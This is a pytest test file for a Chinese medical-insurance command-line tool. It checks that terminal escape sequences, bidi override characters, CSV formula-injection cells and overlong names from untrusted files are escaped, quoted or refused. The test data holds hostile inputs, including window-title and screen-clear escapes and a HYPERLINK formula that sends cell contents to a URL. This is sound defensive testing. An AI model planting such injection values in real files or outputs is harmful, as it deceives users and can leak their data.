"""Text from other people's files reaches the terminal shown, never obeyed (issue 17, item 6).

A policy file, a batch cell, a slip, the config or the command line may hold ESC sequences
(``ESC]0;…`` sets the window title, ``ESC[2J`` clears the screen, ``ESC[8m`` hides what follows) or
bidi controls (U+202E shows text backwards). Every output writes them out as ``\\x1b`` / ``\\u202e``;
JSON keeps the data exact (its own escapes); CSV cells a spreadsheet would run get a ``'``.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from medins_cli.errors import ExitCode

EXAMPLE = Path(__file__).parent / "policies" / "example.yaml"
ESTIMATE = ["-t", "employee", "--tier", "2", "--amount", "100"]
#: Anything a terminal would obey rather than show (newline and tab are layout).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

NAME = "示例\x1b]0;PWNED\x07市"  # sets the window title
TITLE = "示例\x1b[2J通知\u202e"  # clears the screen; then reverses what follows
NOTE = "注意\x1b[8m隐藏"  # hides the rest of the line
MARKUP = "[/bold] [red]红[/red]"  # Rich markup: text, not tags (and no crash)


def _hostile_policy(folder: Path, name: str = "evil.yaml") -> str:
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("name: 示例市", 'name: "示例\\e]0;PWNED\\a市"')
    text = text.replace('title: "示例通知"', 'title: "示例\\e[2J通知\\u202e"')
    text += 'notes:\n  - {text: "注意\\e[8m隐藏", source: notice-2024}\n  - {text: "[/bold] [red]红[/red]", source: notice-2024}\n'
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def _shown_not_obeyed(result) -> str:
    out = result.stdout + result.stderr
    assert "Traceback" not in out and "内部错误" not in out, out
    assert RAW.search(out) is None, repr(RAW.search(out))
    return out


@pytest.mark.parametrize("args", [
    ["estimate", *ESTIMATE, "-f", "table", "--explain"],
    ["estimate", *ESTIMATE, "-f", "plain", "--explain"],
    ["estimate", *ESTIMATE, "--compare", "tiers", "-f", "table"],
    ["estimate", *ESTIMATE, "--compare", "tiers", "-f", "plain"],
    ["estimate", *ESTIMATE, "--compare", "tiers", "-f", "csv"],
])
def test_a_policy_files_names_notes_and_titles_are_shown_not_obeyed(run, tmp_path, args):
    path = _hostile_policy(tmp_path)
    result = run(*args[:1], "--policy-file", path, *args[1:])
    assert result.exit_code == 0, result.stderr
    out = _shown_not_obeyed(result)
    assert "示例\\x1b]0;PWNED\\x07市" in out  # BEL too: Rich would drop it from a Text, medins shows it
    if "table" in args:  # plain and csv name sources by id only
        assert "示例\\x1b[2J通知\\u202e" in out
    if "--explain" in args and "table" in args:
        assert "注意\\x1b[8m隐藏" in out and MARKUP in out


@pytest.mark.parametrize("form", ["table", "yaml"])
def test_policy_show_escapes_too(run, tmp_path, form):
    result = run("policy", "show", _hostile_policy(tmp_path), "-f", form)
    assert result.exit_code == 0, result.stderr
    out = _shown_not_obeyed(result)
    assert "示例\\x1b]0;PWNED\\x07市" in out  # the table shows it escaped; the YAML writes it as an escape too
    assert "\\u202e" in out
    if form == "table":  # the first line is a Rich Text: Rich would drop the BEL from it, medins shows it
        assert result.stdout.startswith("示例\\x1b]0;PWNED\\x07市(示例省")


def test_policy_show_yaml_reads_back_as_the_same_data(run, tmp_path):
    shown = run("policy", "show", _hostile_policy(tmp_path), "-f", "yaml").stdout
    again = tmp_path / "again.yaml"
    again.write_text(shown, encoding="utf-8")
    doc = run.json("policy", "show", str(again))
    assert doc["region"]["name"] == NAME and doc["sources"][0]["title"] == TITLE


def test_json_keeps_the_data_exact_and_escapes_what_a_terminal_would_obey(run, tmp_path):
    result = run("estimate", "--policy-file", _hostile_policy(tmp_path), *ESTIMATE, "-f", "json")
    assert result.exit_code == 0
    _shown_not_obeyed(result)
    assert "\\u202e" in result.stdout and "\\u001b]0;PWNED\\u0007" in result.stdout
    data = json.loads(result.stdout)
    assert data["region"] == NAME and data["sources"][0]["title"] == TITLE
    assert NOTE in data["notes"] and MARKUP in data["notes"]


def test_a_user_region_file_in_the_regions_table(run, isolated_dirs):
    folder = isolated_dirs["data"] / "regions"
    folder.mkdir(parents=True)
    _hostile_policy(folder, "shili.yaml")
    for form in ("table", "plain", "csv"):
        result = run("regions", "--province", "示例省", "-f", form)
        assert result.exit_code == 0, result.stderr
        out = _shown_not_obeyed(result)
        assert "示例\\x1b" in out if form == "table" else "示例\\x1b]0;PWNED\\x07市" in out  # the table cuts it short


def test_validate_names_control_characters_with_their_line(run, tmp_path):
    path = _hostile_policy(tmp_path)
    result = run("policy", "validate", path, "-f", "json")
    assert result.exit_code == 0, result.stdout  # a warning: medins shows them escaped anyway
    _shown_not_obeyed(result)
    hidden = [(p["where"], p["line"]) for p in json.loads(result.stdout)["problems"] if "控制字符" in p["message"]]
    assert hidden == [("region.name", 4), ("sources.0.title", 7), ("notes.0.text", 42)]
    strict = run("policy", "validate", path, "--strict")
    assert strict.exit_code == ExitCode.ERROR
    assert f"{path}:7: 提示 sources.0.title:文字「示例\\x1b[2J通知\\u202e」含有控制字符" in strict.stdout
    _shown_not_obeyed(strict)


def test_a_clean_file_has_no_such_warning(run):
    result = run("policy", "validate", str(EXAMPLE), "-f", "json")
    assert not [p for p in json.loads(result.stdout)["problems"] if "控制字符" in p["message"]]


@pytest.mark.parametrize("name", ["某\x1b[2J县", "某\u202e县", "某\x9b31m县"])
def test_policy_init_refuses_a_name_with_control_characters(run, name):
    result = run("policy", "init", name, "--province", "四川", "--template")
    assert result.exit_code == ExitCode.USAGE
    _shown_not_obeyed(result)
    assert result.stderr.count("\n") == 1 and "含有控制字符" in result.stderr


def test_batch_cells_echoed_in_messages_are_escaped(run, tmp_path):
    path = tmp_path / "b.csv"
    path.write_text("id,region,tier,amount\n1,绵\x1b[2J阳,3,8000\n2,绵阳,3,8000\n", encoding="utf-8")
    result = run("estimate", "--batch", str(path), "-t", "职工")
    assert result.exit_code == ExitCode.ERROR
    _shown_not_obeyed(result)
    assert "第 2 行:不认识的地区「绵\\x1b[2J阳」" in result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["region"] == "绵\\x1b[2J阳" and "绵\\x1b[2J阳" in rows[0]["error"]
    as_json = run("estimate", "--batch", str(path), "-t", "职工", "-f", "json")
    _shown_not_obeyed(as_json)
    records = json.loads(as_json.stdout)
    assert records[0]["region"] == "绵\x1b[2J阳" and "绵\x1b[2J阳" in records[0]["error"]  # JSON: the data itself


def test_slip_fields_are_escaped_and_exported_exactly(run, tmp_path):
    slip = tmp_path / "slip.yaml"
    slip.write_text('医疗费总额: 1000\n统筹基金支出: 0\n个人现金支出: 1000\n结算日期: 2025-03-01\n'
                    'hospital: "医院\\e]0;x\\a"\nperson: "妈\\u202e妈"\n', encoding="utf-8")
    assert run("slip", "add", str(slip), "-f", "json").exit_code == 0
    for form in ("table", "plain", "csv"):
        result = run("slip", "list", "-f", form)
        assert result.exit_code == 0
        _shown_not_obeyed(result)
    exported = run("slip", "export", "-f", "csv")
    assert "医院\\x1b]0;x\\x07" in _shown_not_obeyed(exported)
    entries = json.loads(run("slip", "export").stdout)
    assert (entries[0]["hospital"], entries[0]["person"]) == ("医院\x1b]0;x\x07", "妈\u202e妈")


def test_config_values_are_escaped(run, isolated_dirs):
    isolated_dirs["config"].mkdir(parents=True)
    (isolated_dirs["config"] / "config.json").write_text(json.dumps({"region": "绵\x1b[2J阳"}), encoding="utf-8")
    for args in (["config", "show", "-f", "table"], ["config", "show", "-f", "plain"], ["config", "get", "region"]):
        result = run(*args)
        assert result.exit_code == 0
        assert "绵\\x1b[2J阳" in _shown_not_obeyed(result)
    result = run("estimate", "--tier", "3", "--amount", "8000")
    assert result.exit_code == ExitCode.USAGE
    assert "绵\\x1b[2J阳" in _shown_not_obeyed(result)


def test_options_from_the_command_line_are_escaped_in_messages(run):
    result = run("estimate", "-r", "绵\u202e阳", "--tier", "3", "--amount", "8000")
    assert result.exit_code == ExitCode.USAGE and "绵\\u202e阳" in _shown_not_obeyed(result)
    result = run("checklist", "住院\x1b[8m")
    assert result.exit_code == ExitCode.USAGE and "住院\\x1b[8m" in _shown_not_obeyed(result)


def test_a_very_long_message_is_clipped(run):
    result = run("checklist", "住" * 50_000)
    assert result.exit_code == ExitCode.USAGE
    assert len(result.stderr) < 3000 and "中间略去" in result.stderr and result.stderr.count("\n") == 1


# ---- CSV: cells a spreadsheet would run -------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'


def _formula_batch(tmp_path: Path) -> str:
    path = tmp_path / "f.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "note", "region", "tier", "amount", "delta"])
        w.writerow([FORMULA, "@SUM(1,2)", "绵阳", "3", "8000", "-5.00"])
        w.writerow(["+1", "\t=1+1", "绵阳", "3", "8000", "-2+3"])
        w.writerow(["a", "-", "=1+1", "3", "8000", "1e5"])
    return str(path)


def test_batch_csv_cells_a_spreadsheet_would_run_get_a_quote(run, tmp_path):
    result = run("estimate", "--batch", _formula_batch(tmp_path), "-t", "职工", "-q")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:2] == ["'" + FORMULA, "'@SUM(1,2)"] and rows[1][5] == "-5.00"  # a number is data
    assert rows[2][:2] == ["+1", "'\t=1+1"] and rows[2][5] == "'-2+3"  # -2+3 is a formula, not a number
    assert rows[3][:3] == ["a", "'-", "'=1+1"]
    assert rows[3][-1].startswith("不认识的地区")  # the echoed region starts the error column with text
    assert rows[1][6:12] == ["8000.00", "750.00", "6090.00", "0.00", "1910.00", "0.7613"]


def test_raw_csv_writes_the_cells_as_they_are(run, tmp_path):
    result = run("estimate", "--batch", _formula_batch(tmp_path), "-t", "职工", "-q", "--raw-csv")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][:2] == [FORMULA, "@SUM(1,2)"] and rows[2][1] == "\t=1+1" and rows[3][2] == "=1+1"


@pytest.mark.parametrize("form", ["json", "jsonl", "plain"])
def test_other_formats_are_not_quoted(run, tmp_path, form):
    result = run("estimate", "--batch", _formula_batch(tmp_path), "-t", "职工", "-q", "-f", form)
    assert FORMULA in result.stdout.replace('\\"', '"') and "'" + FORMULA not in result.stdout


def test_slip_export_csv_quotes_formulas_and_reads_back(run, tmp_path, monkeypatch):
    slip = tmp_path / "slip.yaml"
    slip.write_text('医疗费总额: 1000\n统筹基金支出: 0\n个人现金支出: 1000\n结算日期: 2025-03-01\n'
                    "hospital: '=HYPERLINK(\"http://x\",\"y\")'\nperson: '@妈妈'\n", encoding="utf-8")
    assert run("slip", "add", str(slip)).exit_code == 0
    exported = run("slip", "export", "-f", "csv").stdout
    row = next(csv.DictReader(io.StringIO(exported)))
    assert (row["hospital"], row["person"]) == ("'=HYPERLINK(\"http://x\",\"y\")", "'@妈妈")
    assert run("slip", "export", "-f", "csv", "--raw-csv").stdout.count("'") == 0
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    monkeypatch.setenv("MEDINS_DATA_DIR", str(tmp_path / "elsewhere"))
    assert run("slip", "add", str(path)).exit_code == 0
    back = json.loads(run("slip", "export").stdout)[0]
    assert (back["hospital"], back["person"]) == ('=HYPERLINK("http://x","y")', "@妈妈")  # the ' comes off
    assert run("slip", "export", "-f", "csv").stdout == exported


def test_regions_csv_quotes_a_name_that_is_a_formula(run, isolated_dirs):
    folder = isolated_dirs["data"] / "regions"
    folder.mkdir(parents=True)
    text = EXAMPLE.read_text(encoding="utf-8").replace("name: 示例市", 'name: "@示例市"')
    (folder / "shili.yaml").write_text(text, encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(run("regions", "-p", "示例省", "-f", "csv").stdout)))
    assert rows[0]["name"] == "'@示例市"
    rows = list(csv.DictReader(io.StringIO(run("regions", "-p", "示例省", "-f", "csv", "--raw-csv").stdout)))
    assert rows[0]["name"] == "@示例市"


# ---- names too long to be one: answered at once, never compared (issue 17, item 7) ---------------


def test_a_region_cell_of_a_million_characters_is_that_rows_error(run, tmp_path):
    path = tmp_path / "long.csv"
    path.write_text(f"region,type,tier,amount\n{'绵' * 1_000_000},职工,3,8000\n绵阳,职工,3,8000\n", encoding="utf-8")
    result = run("estimate", "--batch", str(path), "-q")
    assert result.exit_code == ExitCode.ERROR
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["error"].startswith("地区名太长(1,000,000 个字)") and rows[1]["fund_pay"] == "6090.00"
    assert len(result.stderr) < 1000


def test_a_config_region_of_200000_characters_is_a_broken_config(run, isolated_dirs):
    isolated_dirs["config"].mkdir(parents=True)
    (isolated_dirs["config"] / "config.json").write_text(json.dumps({"region": "x" * 200_000}), encoding="utf-8")
    result = run("estimate", "--tier", "3", "--amount", "8000")
    assert result.exit_code == ExitCode.ERROR
    assert result.stderr.count("\n") == 1 and "region 太长(200,000 个字)" in result.stderr
    assert len(result.stderr) < 500


@pytest.mark.parametrize("args", [
    ["estimate", "--tier", "3", "--amount", "8000", "-r"], ["config", "set", "region"], ["policy", "show"],
    ["checklist", "住院报销", "-r"], ["transfer-guide", "--from", "绵阳", "--to"], ["balance", "-r"],
    ["policy", "init", "--province", "四川", "--template"],
])
def test_a_long_region_name_is_refused_without_being_compared(run, args):
    result = run(*args, "南" * 5000)
    assert result.exit_code == ExitCode.USAGE, result.stderr
    assert result.stderr.startswith("错误:地区名太长(5,000 个字)") and result.stderr.count("\n") == 1


def test_a_name_just_long_enough_is_still_looked_up(run):
    result = run("estimate", "-r", "绵羊" * 32, "--tier", "3", "--amount", "8000")
    assert result.exit_code == ExitCode.USAGE and "不认识的地区" in result.stderr


def test_validate_keeps_one_problem_a_line_whatever_the_file_is_called(run, tmp_path):
    path = tmp_path / "新\n文件\x1b[2J.yaml"
    path.write_text("schema: 1\nregion: {name: 某县}\n", encoding="utf-8")
    result = run("policy", "validate", str(path))
    assert result.exit_code == ExitCode.ERROR
    _shown_not_obeyed(result)
    lines = result.stdout.splitlines()
    assert lines and all(line.startswith(f"{tmp_path}/新\\n文件\\x1b[2J.yaml") for line in lines)
